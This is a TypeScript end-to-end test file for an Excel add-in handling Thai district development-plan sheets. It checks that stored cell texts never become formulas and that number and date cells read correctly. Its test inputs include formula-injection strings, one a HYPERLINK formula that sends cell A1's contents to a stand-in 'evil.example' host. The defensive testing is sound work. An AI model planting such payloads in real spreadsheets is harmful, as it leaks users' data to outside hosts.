import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SheetDocument } from '../../addin/workbench/document/document.ts';
import { newDocument } from '../../addin/workbench/document/new-document.ts';
import { rowsFromBlock } from '../../addin/workbook/sheets/rows.ts';
import { fingerprint } from '../../server/use-cases/sheets/fingerprint.ts';
import { columnKeys } from '../../shared/indicator/indicator.ts';
import type { EntryRow } from '../../shared/terms/row.ts';
import type { SheetContent } from '../../shared/terms/sheet.ts';
import { serverSheet } from '../../shared/wire/sheets.ts';
import { communityDevelopmentPlans as indicator } from '../shared/sheet.ts';
import { act, chooseView, worksheet } from './host/city-desk.ts';
import { beginAnew, draftSaved, first, sheet } from './host/officer-desk.ts';
import { type OverHttp, openHttp } from './host/over-http.ts';
import { sheetsOverHttp } from './host/sheets-over-http.ts';
import { type Desk, openDesk, signIn } from './host/workbench.ts';
import { setUpWorld } from './host/world.ts';

/**
 * Texts that Excel would calculate, convert or cut, in every column of a district's sheet and in สยป.'s worksheet of all
 * rows, in a workbook that reads them at its strictest; and what a number cell shows, read.
 */

const world = setUpWorld();
const officer = {} as Desk;
let http: OverHttp;

const phayathai = '1014';
const texts = [
  '=รอผล',
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"คลิก")',
  '+5',
  '+HYPERLINK("https://evil.example","x")',
  '-1+1',
  '- ไม่มี',
  '@SUM(1)',
  '@x',
  "'abc",
  "''a",
  '＝1+1',
  '1-3',
  '1/2563',
  '50%',
  '001',
  'TRUE',
  '10:30',
  `-${'ก'.repeat(300)}`,
];
const keys = columnKeys(indicator);

/** Another text in every cell that is not laid in. */
const foreign = (rows: EntryRow[]) =>
  rows.map((row, at) => {
    const filled = keys.slice(2).map((key, column) => [key, texts[(at * 7 + column) % texts.length] ?? null]);
    return { code: row.code ?? null, name: row.name ?? null, ...Object.fromEntries(filled) } as EntryRow;
  });

const stored = async () =>
  serverSheet.parse(await http.get('phayathai', `/api/v1/sheets/2100-1040/2563-Q1/${phayathai}`));

const printed = ({ rows, report }: Pick<SheetContent, 'rows' | 'report'>) =>
  fingerprint({ rows, report, notApplicable: false }, keys);

/** What a worksheet's table holds in its columns of ours, and where there are formulas in them. */
function tableOf({ cells, tables }: SheetDocument, columns: number): { values: unknown[][]; formulas: string[] } {
  const [table] = tables;
  if (!table) throw new Error('no table');
  const places = Array.from({ length: table.box.rows }, (_, row) =>
    Array.from({ length: columns }, (_, column) => cells[table.box.row + row]?.[table.box.column + column]),
  );
  return {
    values: places.map((line) => line.map((cell) => cell?.value ?? '')),
    formulas: places.flatMap((line) => line.flatMap((cell) => cell?.formula ?? [])),
  };
}

const entryTable = async () => tableOf(worksheet(await officer.drive('document'), sheet), keys.length);
const press = (name: RegExp) => officer.pane.getByRole('button', { name }).first().click();
const see = (text: string | RegExp) => officer.pane.getByText(text).first().waitFor();

beforeAll(async () => {
  http = await openHttp(world.server);
  await sheetsOverHttp(http).save(phayathai, 22, { change: foreign });
  Object.assign(officer, await openDesk(world, { conditions: 'strict' }));
  await signIn(officer, 'phayathai', world.server.password);
  await officer.pane.getByRole('button', { name: /เปิดแผ่นงาน.*ไตรมาสที่ 1/ }).waitFor();
});

afterAll(async () => {
  await officer.close?.();
  await http?.close();
});

describe('the district’s sheet', () => {
  test('has every text as it was stored, no formula, and tells of none', async () => {
    await beginAnew(officer);
    const { values, formulas } = await entryTable();
    const { rows } = await stored();
    expect(formulas).toEqual([]);
    expect(rowsFromBlock({ indicator } as Parameters<typeof rowsFromBlock>[0], values)).toEqual(rows);
    await expect.poll(() => officer.pane.getByText(/มีสูตรใน/).count()).toBe(0);
  });

  test('gives the server back what it was given, from one workbook to the next', async () => {
    const before = await stored();
    const marked = before.rows.map((row, at) => (at === 0 ? { ...row, remark: '=รอตรวจ' } : row));
    for (const [remark, rows] of [
      ['=รอตรวจ', marked],
      [String(before.rows[0]?.remark), before.rows],
      ['=รอตรวจ', marked],
    ] as const) {
      await beginAnew(officer);
      await officer.drive('type', sheet, `K${first}`, remark);
      await press(/บันทึกร่าง/);
      await see(draftSaved);
      const after = await stored();
      expect(after.rows[0]?.remark).toBe(remark);
      expect(printed(after)).toBe(printed({ rows: [...rows], report: before.report }));
    }
  });
});

test('สยป.’s worksheet of all rows has every text as it is stored, and no formula', async () => {
  const desk = await openDesk(world, { conditions: 'strict' });
  await signIn(desk, 'planning', world.server.password);
  await chooseView(desk, 'now');
  await desk.pane.getByRole('button', { name: /ทุกแถวของทุกเขต/ }).click();
  await desk.pane.getByText(/วาง 22 แถวในแผ่น/).waitFor();
  const { rows } = await stored();
  const own = 7;
  const { values, formulas } = tableOf(
    worksheet(await desk.drive('document'), '2100-1040 2563-Q1 ทุกแถว'),
    own + keys.length,
  );
  expect(formulas).toEqual([]);
  expect(values.slice(1).map((line) => line.slice(own))).toEqual(rows.map((row) => keys.map((key) => row[key] ?? '')));
  expect(desk.faults).toEqual([]);
  await desk.close();
});

describe('what a number cell shows', () => {
  beforeAll(() => sheetsOverHttp(http).save(phayathai, 22));

  test('a pasted day in a column of years is asked about as the day, and stands against submitting', async () => {
    await beginAnew(officer);
    await showing('J', 'd-mmm', 46_366);
    await see('“10/12/2569” เป็นวันที่ ไม่ใช่จำนวน');
  });

  test('a workbook that counts from 1904 has its days read as they are shown', async () => {
    await officer.drive('open', { ...newDocument('สมุดงาน1904'), date1904: true });
    await press(/เปิดแผ่นงาน.*ไตรมาสที่ 1/);
    await see(/กรอกแล้ว \d+ จาก \d+ ชุมชน/);
    await showing('G', 'd/m/yyyy', 42_285);
    await see('9/10/2562');
  });

  /** Gives a cell of the first row a number and a format, as a paste does. */
  async function showing(column: string, format: string, value: number): Promise<void> {
    await officer.drive('unprotect', sheet);
    await act(
      officer,
      async (context, given) => {
        const cell = context.workbook.worksheets.getItem(given.sheet).getRange(given.cell);
        cell.numberFormat = [[given.format]];
        cell.values = [[given.value]];
        await context.sync();
      },
      { sheet, cell: `${column}${first}`, format, value },
    );
  }
});
